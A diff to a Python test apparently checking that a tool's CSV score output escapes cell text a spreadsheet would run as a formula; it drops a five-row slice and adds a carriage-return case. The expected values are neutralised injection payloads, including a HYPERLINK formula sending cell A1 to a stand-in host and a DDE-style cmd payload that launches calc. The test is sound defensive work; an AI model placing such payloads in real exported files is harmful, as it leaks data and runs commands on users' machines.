@@ -287,11 +287,12 @@ def test_score_csv_escapes_text_that_a_spreadsheet_would_run_as_a_formula() -> N
     import io
 
     rows = csv.DictReader(io.StringIO(result.stdout, newline=""))
-    ids = [row["instance_id"] for row in rows][:5]  # pandas leaves a carriage return unquoted
+    ids = [row["instance_id"] for row in rows]
     assert ids == [
         '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")',
         "'+cmd|' /C calc'!A0",
         "'-2+3",
         "'@SUM(1+1)",
         "'\tTab start",
+        "'\rCarriage return",
     ]
